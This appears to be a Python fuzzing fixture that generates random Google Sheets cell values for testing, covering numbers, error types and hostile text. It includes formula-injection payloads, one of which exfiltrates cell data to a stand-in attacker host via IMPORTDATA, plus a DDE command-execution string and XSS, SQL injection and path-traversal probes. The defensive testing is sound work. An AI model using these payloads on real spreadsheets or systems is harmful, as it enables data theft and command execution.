"""What people, imports and attackers put into cells: every kind that Sheets can hold."""

from __future__ import annotations

import random
from typing import Any

Json = dict[str, Any]

LIVE = (
    '=IMPORTDATA("https://attacker.example/?q="&A1)', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"x\")",
    "\t=1+1", "＝1+1", "'=1+1", "=cmd|' /C calc'!A0", "{=1}", "=IMAGE(\"http://x.example/y\")",
)  # fmt: skip
TEXTS = (
    "", " ", "\u00a0", "\u200b", "TBD", "n/a", "-", "#REF!", "Total", "Grand total", "Subtotal", "None",
    "null", "NaN", "inf",
    "1e400", "-0", "0x10", "1,234.56", "1.234,56", "1 234,56", "(1,234)", "12%", "12 %", "١٢٣",
    "EUR 12", "12 €", "31.12.2025", "12/31/2025", "2026-02-30", "2026-13", "Q3 2026", "Mar 26", "yesterday",
    "שלום", "مرحبا", "\u202eevil\u202c", "\u200fabc\u200e", "e\u0301", "ﬁ", "İstanbul", "ß",
    "👩‍👩‍👧‍👦", "🧨" * 40,
    "\x00", "a\x00b", "\x07\x08\x1b[31m", "line\nbreak", "tab\tstop", "\r\n", "\u2028", "\ufeff", "\ufffe",
    "\U0010ffff", "<script>alert(1)</script>", "'; DROP TABLE run; --", "{{7*7}}", "%s%n", "../../etc/passwd",
    "Settings!A1", "'Budget'!A1", "1.1", "1.10", "1.2", "Ana", "Ben", "percent", "0/100", "50/50", "time",
)  # fmt: skip
NUMBERS = (
    0.0, -0.0, 1.0, -1.0, 0.1, 1e-308, 5e-324, 1e15, -1e15, 9_007_199_254_740_993.0, 1e18, 1e19, 1e30, 1e100,
    1e300, 1.7976931348623157e308, -1.7976931348623157e308, 45_000.0, 46_000.5, 46_112.999, 2_958_465.0,
    2_958_466.0, -1e6, 1e7, 100.0, 101.0, 99.999, 0.3333333333333333,
)  # fmt: skip
ERRORS = ("REF", "DIVIDE_BY_ZERO", "VALUE", "NAME", "NUM", "N_A", "NULL_VALUE", "LOADING", "ERROR", "")
LONGEST = 50_000


def text(chance: random.Random) -> str:
    """Any text a cell can hold, up to the 50,000 characters that Sheets allows."""
    kind = chance.random()
    if kind < 0.2:
        return chance.choice(LIVE)
    if kind < 0.85:
        return chance.choice(TEXTS)
    if kind < 0.98:
        return "".join(_character(chance) for _ in range(chance.randrange(1, 40)))
    return (chance.choice((*LIVE, "word ", "🧨", "x", "א", "1")) * LONGEST)[:LONGEST]


def _character(chance: random.Random) -> str:
    code = chance.choice((chance.randrange(0x20, 0x7F), chance.randrange(0x2000), chance.randrange(0x110000)))
    return chr(code) if not 0xD800 <= code < 0xE000 else "?"


def number(chance: random.Random) -> float:
    """Any number a cell can hold: never infinite, never not a number."""
    if chance.random() < 0.5:
        return chance.choice(NUMBERS)
    return chance.choice((1.0, -1.0)) * chance.random() * 10 ** chance.randrange(-5, 12)


def value(chance: random.Random) -> Json | None:
    """An `effectiveValue`, None for a blank cell."""
    kind = chance.random()
    if kind < 0.12:
        return None
    if kind < 0.45:
        return {"numberValue": number(chance)}
    if kind < 0.88:
        return {"stringValue": text(chance)}
    if kind < 0.94:
        return {"boolValue": chance.random() < 0.5}
    return {"errorValue": {"type": chance.choice(ERRORS), "message": text(chance)[:200]}}
